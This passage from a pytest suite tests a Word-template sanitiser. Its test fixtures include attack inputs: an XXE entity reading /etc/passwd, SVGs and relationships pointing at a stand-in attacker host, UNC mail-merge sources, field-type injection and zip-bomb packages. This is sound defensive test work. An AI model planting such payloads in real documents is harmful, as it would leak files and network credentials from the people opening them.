            f'<Relationship Id="rIdCopy{n}" Type="{REL}package" '
            'Target="embeddings/Object1.docx"/>'.encode()
            for n in range(40)
        )
        + b"</Relationships>",
    )
    sanitize_template(with_parts(template, {"word/_rels/document.xml.rels": rels}), "对象.docx")
    assert len(calls) == 1


def test_an_ordinary_presentation_is_ordinary_too() -> None:
    from pptx import Presentation

    deck = Presentation()
    deck.slides.add_slide(deck.slide_layouts[1]).shapes.title.text = "工作汇报"
    buffer = io.BytesIO()
    deck.save(buffer)
    assert reach(buffer.getvalue(), DEFAULT_LIMITS, Budget(DEFAULT_LIMITS.max_total_bytes)) is None


def test_a_package_with_two_parts_of_one_name_or_a_broken_stream_is_refused_in_chinese() -> None:
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive, pytest.warns(UserWarning):
        archive.writestr("word/document.xml", b"<a/>")
        archive.writestr("word/document.xml", b"<b/>")
    with pytest.raises(UnreadableDocumentError, match=r"有两个 word/document\.xml"):
        read_package(twice.getvalue(), "重名.docx")
    data = bytearray(_word_file())
    start = data.index(b"word/document.xml") + len("word/document.xml")
    data[start + 10 : start + 40] = b"\xff" * 30  # inside the deflate stream
    with pytest.raises(UnreadableDocumentError, match="压缩包已损坏"):
        read_package(bytes(data), "坏.docx")


def test_a_disguised_embedded_object_goes() -> None:
    disguised = sanitize_template(_ole(PREVIEW, "package", "embeddings/x.bin"), "对象.docx")
    assert "word/embeddings/x.bin" not in disguised.parts


SVG_READING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="file:///tmp/secret.png" width="9" height="9"/></svg>'
)


@pytest.mark.parametrize(
    ("name", "blob"),
    [
        ("media/i.png", SVG_READING.encode()),
        ("media/i.svg", gzip.compress(SVG_READING.encode(), mtime=0)),
        ("media/i.bin", SVG_READING.encode("utf-16")),
    ],
    ids=["svg-named-png", "svgz", "utf16-svg"],
)
def test_an_svg_is_known_by_its_content_whatever_its_name(name: str, blob: bytes) -> None:
    template = _template(
        _picture("embed", "rIdI"),
        rels=(("rIdI", "image", name, False),),
        parts={f"word/{name}": blob},
        types='<Default Extension="png" ContentType="image/png"/>',
    )
    with pytest.raises(InputError, match="SVG"):
        sanitize_template(template, "图.docx")


def test_an_svg_as_drawing_programs_write_it_is_kept() -> None:
    """matplotlib, draw.io and Illustrator write a public DOCTYPE (no renderer loads its DTD);
    a link is followed only when clicked."""
    svg = (
        '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC '
        '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<a xlink:href="https://www.gov.cn/"><rect width="9" height="9" fill="url(#g)"/></a></svg>'
    )
    template = _template(
        _picture("embed", "rIdI"),
        rels=(("rIdI", "image", "media/chart.svg", False),),
        parts={"word/media/chart.svg": svg.encode()},
        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
    )
    clean = sanitize_template(template, "图.docx")
    assert b"DOCTYPE" not in clean.parts["word/media/chart.svg"]
    assert b"https://www.gov.cn/" in clean.parts["word/media/chart.svg"]
    assert any("DOCTYPE" in note for note in clean.notes)


@pytest.mark.parametrize("mode", ["external", " External", "EXTERNAL"])
def test_an_external_relationship_is_known_however_its_mode_is_written(mode: str) -> None:
    template = _template(_picture("link", "rIdX"))
    old = parts_of(template)["word/_rels/document.xml.rels"]
    rels = old.replace(
        b"</Relationships>",
        f'<Relationship Id="rIdX" Type="{REL}image" Target="http://{EVIL}/a.png" '
        f'TargetMode="{mode}"/></Relationships>'.encode(),
    )
    clean = sanitize_template(
        with_parts(template, {"word/_rels/document.xml.rels": rels}), "图.docx"
    )
    _no_evil(clean.parts)


def test_a_picture_address_and_a_web_video_go_however_they_are_spaced() -> None:
    body = (
        f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src ="http://{EVIL}/v.png"/></v:shape>'
        f'</w:pict></w:r></w:p><w:p><w:r><w:drawing><wp:inline {WP}><wp:extent cx="1" cy="1"/>'
        f'<wp:docPr id="3" name="v"><a:extLst {A}><a:ext uri="x"><wp15:webVideoPr '
        'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
        f'embeddedHtml="&lt;iframe src=&quot;http://{EVIL}/&quot;&gt;" h="1" w="1"/></a:ext>'
        "</a:extLst></wp:docPr></wp:inline></w:drawing></w:r></w:p>"
    )
    clean = sanitize_template(_template(body), "视频.docx")
    _no_evil(clean.parts)
    assert any("视频" in note for note in clean.notes)


# 4. Encodings: a DTD is refused in any of them; parts not in UTF-8 are read and rewritten.

XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _declared(blob: bytes, encoding: str) -> str:
    """A part's text with its declaration naming ``encoding``."""
    return re.sub("encoding=['\"][^'\"]*['\"]", f'encoding="{encoding}"', blob.decode(), count=1)


def _document_in(encoding: str, bom: bytes = b"", doctype: str = "", name: str = "") -> bytes:
    """The template with its main part in ``encoding``, a DTD in it (``doctype``), and under
    another ``name`` than word/document.xml."""
    template = paragraphs_template("{{ 单位名称 }}", "ZZZ")
    parts = parts_of(template)
    text = _declared(parts["word/document.xml"], encoding)
    text = text.replace("?>", "?>" + doctype, 1).replace("ZZZ", "&xxe;" if doctype else "ZZZ")
    if encoding == "utf-7":  # the declaration in ASCII, "<!" written as UTF-7 writes it
        declaration, rest = text.split("?>", 1)
        body = rest.encode("utf-7").replace(b"<!", b"+ADwAIQ-")
        blob = declaration.encode() + b"?>" + body
    else:
        blob = bom + text.encode(encoding, "xmlcharrefreplace")
    if not name:
        return with_parts(template, {"word/document.xml": blob})
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{main}"/></Types>'.encode()
    )
    return with_parts(
        template,
        {
            name: blob,
            "word/_rels/main.dat.rels": parts["word/_rels/document.xml.rels"],
            "_rels/.rels": parts["_rels/.rels"].replace(b"word/document.xml", name.encode()),
            "[Content_Types].xml": types,
            "word/document.xml": b'<?xml version="1.0"?><x/>',
        },
    )


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [
        ("utf-16", b""),  # Python writes the byte-order mark
        ("utf-16-le", b""),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-32", b""),
        ("utf-8", b"\xef\xbb\xbf"),
        ("utf-7", b""),
        ("cp037", b""),
    ],
)
def test_a_dtd_is_refused_in_any_encoding(encoding: str, bom: bytes) -> None:
    template = _document_in(encoding, bom, XXE)
    with pytest.raises(UnreadableDocumentError, match="DTD/实体声明"):
        sanitize_template(template, "xxe.docx")


def test_a_dtd_is_refused_in_a_part_of_any_name() -> None:
    with pytest.raises(UnreadableDocumentError, match=r"word/main\.dat 含有 DTD"):
        sanitize_template(_document_in("utf-8", doctype=XXE, name="word/main.dat"), "xxe.docx")


def test_a_part_in_utf16_is_cleaned_and_rewritten_in_utf8() -> None:
    code = f' INCLUDEPICTURE "http://{EVIL}/p.png" '
    template = _template(
        f"<w:p>{_field(code)}</w:p>" + _picture("link", "rIdI"),
        rels=(("rIdI", "image", f"http://{EVIL}/i.png", True),),
    )
    parts = parts_of(template)
    names = ("word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml")
    template = with_parts(
        template, {name: _declared(parts[name], "UTF-16").encode("utf-16") for name in names}
    )
    clean = sanitize_template(template, "十六.docx")
    _no_evil(clean.parts)
    assert clean.parts["word/document.xml"].startswith(b"<?xml version='1.0' encoding='UTF-8'")
    output = parts_of(prepare(template, "十六.docx").render(UNIT_ROWS[0]))
    assert "市教育局".encode() in output["word/document.xml"]


def test_a_part_in_an_unknown_encoding_is_refused() -> None:
    template = _document_in("utf-8")
    blob = parts_of(template)["word/document.xml"].replace(
        b'encoding="utf-8"', b'encoding="x-evil"'
    )
    with pytest.raises(UnreadableDocumentError, match="编码无法识别"):
        sanitize_template(with_parts(template, {"word/document.xml": blob}), "编码.docx")


# Everything at once, through the renderer: no output part names the attacker's host.


def test_a_template_with_every_removable_reference_renders_without_any() -> None:
    top = (
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/h.png&quot; \\d ">'
        "<w:r><w:t>h</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:t>{{ 单位名称 }}</w:t></w:r></w:p>"
    )
    template = _with_top_header(top)
    parts = parts_of(template)
    database = f' DATABASE \\d "\\\\\\\\{EVIL}\\\\db.mdb" '
    body = (
        _picture("link", "rIdImg")
        + _picture("embed", "rIdH")
        + f"<w:p>{_field(database)}</w:p>"
        + f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src="http://{EVIL}/v.png"/></v:shape>'
        "</w:pict></w:r></w:p>" + '<w:subDoc r:id="rIdSub"/>'
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", body.encode() + b"<w:sectPr", 1
    )
    extra = "".join(
        f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
        for rid, kind, target in [
            ("rIdImg", "image", f"http://{EVIL}/beacon.png"),
            ("rIdH", "hyperlink", f"http://{EVIL}/hl.png"),
            ("rIdSub", "subDocument", f"file:///\\\\{EVIL}\\share\\sub.docx"),
        ]
    )
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", extra.encode() + b"</Relationships>"
    )
    package = "".join(  # the package's own relationships (security review 20)
        f'<Relationship Id="rIdP{n}" Type="{kind}" Target="http://{EVIL}/{n}" '
        'TargetMode="External"/>'
        for n, kind in enumerate(
            [
                "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                f"{REL}attachedTemplate",
            ]
        )
    )
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"</Relationships>", package.encode() + b"</Relationships>"
    )
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        lambda m: m.group(1) + b'<w:updateFields w:val="true"/>',
        parts["word/settings.xml"],
    )
    prepared = prepare(with_parts(template, dict(parts)), "全部.docx")
    output = parts_of(prepared.render(UNIT_ROWS[0]))
    _no_evil(output)
    assert b"updateFields" not in output["word/settings.xml"]
    assert "市教育局".encode() in output["word/top.xml"]
    assert len(prepared.notes) >= 6


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    "inside",
    [
        f'<image xlink:href="http://{EVIL}/x.png" width="9" height="9"/>',
        '<image href="file:///etc/passwd"/>',
        f"<rect style=\"fill: url('http://{EVIL}/p.svg#a')\"/>",
    ],
)
def test_an_svg_picture_that_reaches_outside_is_refused(inside: str) -> None:
    """LibreOffice draws the SVG when it makes the PDFs, and would fetch what it names."""
    svg = _SVG.format(inside).encode()
    template = _template(
        parts={"word/media/image1.svg": svg},
        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
    )
    with pytest.raises(InputError, match=r"SVG 图片「image1\.svg」引用了外部的文件或网址"):
        sanitize_template(template, "模板.docx")


def test_an_svg_picture_of_its_own_shapes_is_kept() -> None:
    inside = '<defs><linearGradient id="g"/></defs><rect style="fill: url(#g)"/><use href="#g"/>'
    svg = _SVG.format(inside).encode()
    template = _template(
        parts={"word/media/image1.svg": svg},
        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
    )
    assert sanitize_template(template, "模板.docx").parts["word/media/image1.svg"] == svg


@pytest.mark.parametrize(
    "field",
    [
        _field(' {{ 代码 }} "http://evil.example/x.png" \\d '),
        _field(' I{{ "NCLUDEPICTURE" }} "http://evil.example/x.png" '),
        _field(' {% if 1 %}INCLUDEPICTURE{% endif %} "http://evil.example/x.png" '),
        '<w:fldSimple w:instr="{{ 代码 }}"><w:r><w:t>旧结果</w:t></w:r></w:fldSimple>',
    ],
)
def test_a_field_whose_type_a_template_tag_writes_is_refused(field: str) -> None:
    """A row's value would choose the field (INCLUDEPICTURE, DDEAUTO) after sanitising."""
    body = f"<w:p>{field}</w:p>"
    with pytest.raises(InputError, match="域名由模板标签写出") as caught:
        sanitize_template(_template(body), "域.docx")
    assert caught.value.location is not None and caught.value.location.paragraph == 2


def test_a_tag_after_the_fields_type_is_kept() -> None:
    """{ HYPERLINK "{{ 网址 }}" }: the type is written out; the value is only its operand."""
    body = "<w:p>" + _field(' HYPERLINK "{{ 网址 }}" ', "链接") + "</w:p>"
    sanitized = sanitize_template(_template(body), "域.docx")
    assert b"HYPERLINK" in b"".join(sanitized.parts.values())


def test_a_template_in_strict_namespaces_is_refused() -> None:
    """Word reads a field spelt in Strict's namespace like a Transitional one; no check here
    knows it by that name, so such a template is refused, not passed with its fields."""
    field = '<s:fldSimple s:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; "/>'
    body = f'<w:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main">{field}</w:p>'
    with pytest.raises(UnreadableDocumentError, match="Strict") as caught:
        sanitize_template(_template(body), "严格.docx")
    assert "word/document.xml" in str(caught.value)


def test_a_malformed_part_is_said_with_its_name_not_a_traceback() -> None:
    template = _template("<w:p><w:r><w:t a='1' a='2'>x</w:t></w:r></w:p>")
    with pytest.raises(UnreadableDocumentError, match=r"word/document\.xml 不是格式正确的 XML"):
        prepare(template, "坏.docx")


def _with_settings(change: Callable[[bytes], bytes]) -> bytes:
    base = paragraphs_template("{{ 单位名称 }}")
    return with_parts(base, {"word/settings.xml": change(parts_of(base)["word/settings.xml"])})


def test_a_strict_namespace_spelt_with_character_references_is_refused() -> None:
    """The parser reads &#x70;url.oclc.org as purl.oclc.org: so does the check."""
    hidden = 'xmlns:s="http://&#x70;url.oclc.org/ooxml/wordprocessingml/main"'

    def strict(settings: bytes) -> bytes:
        element = f'<s:updateFields {hidden} s:val="true"/>'.encode()
        return settings.replace(b"</w:settings>", element + b"</w:settings>")

    with pytest.raises(UnreadableDocumentError, match="Strict"):
        sanitize_template(_with_settings(strict), "严格.docx")


def test_a_part_behind_a_long_run_of_whitespace_is_still_cleaned() -> None:
    """XML may start after any whitespace, and Word reads it so: the part is cleaned all the
    same (here: a mail merge's data source and fields updated on opening)."""
    merge = (
        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:connectString w:val="\\\\evil.example\\share\\x.xlsx"/></w:mailMerge>'
        b'<w:updateFields w:val="true"/>'
    )

    def padded(settings: bytes) -> bytes:
        start = settings.index(b"<w:settings")
        body = settings[start:].replace(b"</w:settings>", merge + b"</w:settings>")
        return b" " * 300 + body

    clean = sanitize_template(_with_settings(padded), "空白.docx")
    settings = clean.parts["word/settings.xml"]
    assert b"mailMerge" not in settings and b"updateFields" not in settings
    assert b"evil.example" not in settings


@pytest.mark.parametrize("encoding", ["rot13", "base64", "idna", "undefined"])
def test_a_part_declaring_an_encoding_no_xml_is_written_in_is_refused(encoding: str) -> None:
    def declared(settings: bytes) -> bytes:
        start = settings.index(b"<w:settings")
        return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + settings[start:]

    with pytest.raises(UnreadableDocumentError, match="编码无法识别"):
        sanitize_template(_with_settings(declared), "编码.docx")


@pytest.mark.parametrize(
    ("attributes", "said"),
    [
        (" w:id='1' w:author='张三'", "张三 1 处"),
        (' w:id="1" w:author = "张三"', "张三 1 处"),
        (' w:id="1"', "（未署名） 1 处"),
    ],
    ids=["single-quotes", "spaced", "unsigned"],
)
def test_a_tracked_change_however_its_author_is_written_is_refused(
    attributes: str, said: str
) -> None:
    body = f"<w:p><w:del{attributes}><w:r><w:delText>{{{{ 单位名称 }}}}</w:delText></w:r></w:del></w:p>"
    with pytest.raises(InputError, match="未处理的修订") as caught:
        sanitize_template(_template(body), "修订.docx")
    assert said in str(caught.value)


def test_a_part_named_like_relationships_outside_rels_is_cleaned_like_any_other() -> None:
    """Word finds settings by its relationship: named word/settings.rels it is settings all
    the same, and its mail merge data source goes."""
    base = paragraphs_template("{{ 单位名称 }}")
    old = parts_of(base)
    merge = b'<w:mailMerge><w:connectString w:val="\\\\evil.example\\x.xlsx"/></w:mailMerge>'
    settings = old["word/settings.xml"].replace(b"</w:settings>", merge + b"</w:settings>")
    rels = old["word/_rels/document.xml.rels"].replace(
        b'Target="settings.xml"', b'Target="settings.rels"'
    )
    types = old["[Content_Types].xml"].replace(
        b'PartName="/word/settings.xml"', b'PartName="/word/settings.rels"'
    )
    template = with_parts(
        base,
        {
            "word/settings.xml": None,
            "word/settings.rels": settings,
            "word/_rels/document.xml.rels": rels,
            "[Content_Types].xml": types,
        },
    )
    assert b"settings.rels" in parts_of(template)["word/_rels/document.xml.rels"]
    clean = sanitize_template(template, "设置.docx")
    assert b"evil.example" not in clean.parts["word/settings.rels"]


def test_a_part_in_utf32_with_its_byte_order_mark_is_known_as_xml() -> None:
    from docgen.ooxml.package import looks_xml

    text = '<?xml version="1.0" encoding="UTF-32"?><w:settings/>'
    assert looks_xml(b"\x00\x00\xfe\xff" + text.encode("utf-32-be"))
    assert looks_xml(text.encode("utf-32"))  # the little-endian mark starts like UTF-16's


def test_a_template_of_millions_of_tags_is_refused_before_it_is_parsed() -> None:
    """Security review 21: customXml parts of millions of <a/> (compressing 33 to 1, under the
    ratio bound) took 2 GB to parse and walk; tags are counted first."""
    import time

    template = with_parts(
        paragraphs_template("{{ 单位名称 }}"),
        {
            "customXml/item9.xml": b"<r>"
            + b"".join(b"<a%d/>" % i for i in range(3_100_000))
            + b"</r>"
        },
    )
    start = time.monotonic()
    with pytest.raises(UnreadableDocumentError, match="XML 部件过于庞大"):
        prepare(template, "大模板.docx")
    assert time.monotonic() - start < 10


def test_a_package_of_too_many_entries_is_refused_from_its_end_record(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Security review 21: zipfile made an object of each of 4 million entries (1.8 GB)
    before they were counted; the end record's count is read first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(DEFAULT_LIMITS.max_entries + 1):
            archive.writestr(f"p/{number}", b"")
    monkeypatch.setattr("docgen.ooxml.package.zipfile.ZipFile", None)  # never reached
    with pytest.raises(UnreadableDocumentError, match="文件过多（2001 个）"):
        read_package(buffer.getvalue(), "多.docx")
